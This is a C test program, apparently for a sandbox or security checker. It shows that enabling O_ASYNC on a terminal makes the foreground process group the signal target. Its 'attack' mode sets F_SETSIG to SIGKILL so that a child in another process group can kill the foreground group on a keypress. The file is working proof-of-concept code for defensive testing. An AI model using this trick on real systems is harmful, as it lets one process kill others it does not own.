// Signal-driven I/O on the terminal (O_ASYNC): the kernel makes the file's owner the terminal's
// foreground process group itself (drivers/tty/tty_io.c __tty_fasync), with no F_SETOWN.
//   async_terminal benign: takes SIGIO for its terminal input (a handler, O_ASYNC on stdin), prints
//     "ready", waits up to 5 s for a key, reads the line and says how many SIGIOs came.
//   async_terminal attack fcntl|ioctl: a child in a process group of its own turns O_ASYNC on for a
//     new descriptor of the terminal (F_SETFL or FIOASYNC) with F_SETSIG naming SIGKILL, prints who
//     owns the file and "ready", and waits for a key (5 s at most): it sends SIGKILL to the owner.
//     The parent stays in the foreground group (under seccheck, seccheck's) and says how the child ended.
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t sigios;

static void counted(int sig) {
    (void) sig;
    sigios++;
}

static int benign(void) {
    signal(SIGIO, counted);
    if (fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_ASYNC) != 0) {
        perror("F_SETFL");
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    for (int i = 0; i < 50 && sigios == 0; i++) {
        usleep(100000);
    }
    char line[64];
    ssize_t n = read(0, line, sizeof line);
    printf("benign got %d SIGIO, read %zd bytes\n", (int) sigios, n);
    return 0;
}

static int attack(int viaIoctl) {
    pid_t child = fork();
    if (child == 0) {
        setpgid(0, 0);
        int fd = dup(0);
        if (fcntl(fd, F_SETSIG, SIGKILL) != 0) {
            perror("F_SETSIG");
        }
        int on = 1;
        int r = viaIoctl ? ioctl(fd, FIOASYNC, &on) : fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_ASYNC);
        struct f_owner_ex owner;
        fcntl(fd, F_GETOWN_EX, &owner);
        printf("child O_ASYNC %s; owner %s\n", r == 0 ? "on" : "refused",
                owner.type == F_OWNER_PGRP ? (owner.pid == tcgetpgrp(0) ? "the foreground group" : "another group")
                : owner.pid == getpid() ? "the child" : owner.pid == 0 ? "none" : "another process");
        printf("ready\n");
        fflush(stdout);
        struct pollfd typed = {.fd = fd, .events = POLLIN};
        poll(&typed, 1, 5000);
        usleep(300000); // the signal, if it is the child's
        _exit(0);
    }
    int status;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) {
        printf("child killed by signal %d\n", WTERMSIG(status));
    } else {
        printf("child exited %d\n", WEXITSTATUS(status));
    }
    printf("parent survived\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "benign") == 0) {
        return benign();
    }
    return attack(argc > 2 && strcmp(argv[2], "ioctl") == 0);
}
